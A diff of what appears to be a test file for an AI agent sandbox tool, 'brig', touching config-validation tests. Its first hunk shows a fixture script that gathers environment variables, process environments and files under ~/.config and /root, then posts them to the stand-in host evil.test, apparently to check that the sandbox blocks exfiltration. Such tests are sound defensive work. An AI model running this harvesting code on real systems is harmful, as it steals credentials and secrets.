@@ -163,6 +163,7 @@ found = dict(os.environ)
 for path in glob.glob('/proc/*/environ') + glob.glob(os.path.expanduser('~/.config/**'), recursive=True) + glob.glob('/root/**', recursive=True):
     try: found[path] = open(path, 'rb').read().decode('latin-1')
     except OSError: pass
+print(chr(0) * 3)  # what no reader of JSON takes must not hide what follows
 found['placeholder'] = '{MODEL_KEY}'
 request = urllib.request.Request('http://evil.test:%d/take', repr(found).encode(), {'Authorization': 'Bearer {MODEL_KEY}'})
 print(urllib.request.urlopen(request, timeout=5).status)
@@ -404,7 +405,7 @@ def what_cannot_be_is_refused_before_anybody_is_asked():
                            (("-p", "x", "--base-url", "https://127.0.0.1/v1"), "https needs a name"), (("-p", "x", "--base-url", "ftp://a/"), "base_url")):
             done = agent(*args)
             assert done.status == 125 and word in done.errors, (args, done)
-        (workspace() / "brig.yaml").write_text("network: none\n")
+        (workspace() / "brig.yaml").write_text("brig: 1\nnetwork: none\n")
         assert "is not a role" in brig("agent", "brig.yaml", "-p", "x").errors
         role = workspace() / "role.yaml"
         role.write_text(role.read_text().replace("provider: openai", "api_key_env: MODEL_KEY, provider: openai"))
